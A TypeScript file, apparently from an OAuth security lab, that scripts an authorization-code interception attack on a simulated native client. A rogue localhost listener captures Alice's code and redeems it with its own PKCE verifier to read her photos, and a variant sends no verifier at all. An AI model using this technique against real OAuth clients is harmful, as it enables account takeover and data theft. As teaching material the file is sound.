import type { Answer, Place } from '../engine/lab.ts'
import { authorizationUrl, newVerifier, readPhotos, requestTokens } from '../engine/own-client.ts'

const client_id = 'printshop-cli'

/**
 * Alice's terminal program waits for its code at a port of her computer. Another program listens there first, and hands in the
 * code with a verifier of its own.
 */
export async function attack(place: Place): Promise<Answer> {
  const { code, redirect_uri } = await takeCode(place)
  const { code_verifier } = newVerifier() // not Alice's: nobody has seen that one
  const body = { grant_type: 'authorization_code', client_id, redirect_uri, code, code_verifier }
  const answer = await requestTokens(place, body)
  return answer.status === 200 ? readPhotos(place, answer.tokens) : answer
}

/** The code without any verifier: it is missing before anybody compares it. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const { code, redirect_uri } = await takeCode(place)
  return requestTokens(place, { grant_type: 'authorization_code', client_id, redirect_uri, code })
}

async function takeCode(place: Place): Promise<{ code: string; redirect_uri: string }> {
  const redirect_uri = `http://127.0.0.1:${new URL(place.evil).port}/callback`
  const { code_challenge } = newVerifier()
  const question = authorizationUrl(place, { client_id, redirect_uri, scope: 'photos.read' }, code_challenge)
  const { url } = await place.person('alice').walk(question, { stopAt: /\/callback\?/ })
  return { code: new URL(url).searchParams.get('code') ?? '', redirect_uri }
}
